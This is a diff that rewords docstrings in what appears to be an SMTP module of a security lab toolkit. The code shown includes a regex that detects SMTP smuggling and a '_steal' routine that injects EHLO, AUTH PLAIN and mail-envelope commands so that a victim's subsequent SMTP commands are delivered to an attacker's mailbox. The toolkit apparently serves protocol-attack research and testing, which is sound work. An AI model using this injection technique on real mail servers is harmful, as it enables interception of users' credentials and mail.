@@ -25,12 +25,12 @@ from labkit.dialects.writing import (
 
 _CODE = re.compile(rb"[2-5][0-9][0-9]")
 _STATUSES = {b"%d%c" % (code, behind): str(code) for code in range(200, 600) for behind in b" -\r\n"}
-"""Reply code with what may stand behind it (RFC 5321 §4.2) -> the code."""
+"""Reply code with what may stand after it (RFC 5321 §4.2) -> the code."""
 _BDAT = re.compile(rb"BDAT +(\d{1,12})", re.IGNORECASE)
 
 
 _SMUGGLED = re.compile(rb"[\r\n]\0?\.(?:\r?\n|\r)(?=(?:%s)\b)" % "|".join(COMMANDS).encode(), re.IGNORECASE)
-"""A line with a single dot whose ends are no CRLF, and a command behind it: SMTP smuggling. RFC 5321 §2.3.8 forbids a
+"""A line with a single dot that does not end in CRLF, then a command: SMTP smuggling. RFC 5321 §2.3.8 forbids a
 bare CR or LF; servers that took it for the end of a line read the commands, and those before them did not."""
 
 
@@ -71,7 +71,7 @@ class SMTPReader(CodedLineReader):
         return _STATUSES.get(reply[:4])
 
     def _next_line(self, buffer: Buffer, start: int, end: int) -> int:
-        """RFC 5321 §4.2.1: each line but the last has a hyphen behind its code."""
+        """RFC 5321 §4.2.1: each line but the last has a hyphen after its code."""
         return end if buffer.startswith(b"-", start + 3) and _CODE.match(buffer, start) else 0
 
     def _announced(self, line: bytes) -> int:
@@ -91,7 +91,7 @@ def _recognises(server: bytes, client: bytes) -> bool:
 
 
 def _steal(tag: str, account: Credentials, _: int) -> bytes:
-    """Each command earns just the reply that the victim waits for; behind DATA its own words are the message."""
+    """Each command gets exactly the reply that the victim awaits; after DATA, the victim's commands are the message."""
     commands = ("EHLO mallory.lab.test", f"AUTH PLAIN {plain(account.user, account.password)}")
     envelope = (f"MAIL FROM:<{account.address}>", f"RCPT TO:<{account.address}>", "DATA")
     return b"".join(untagged_command(text, tag) for text in (*commands, *envelope))
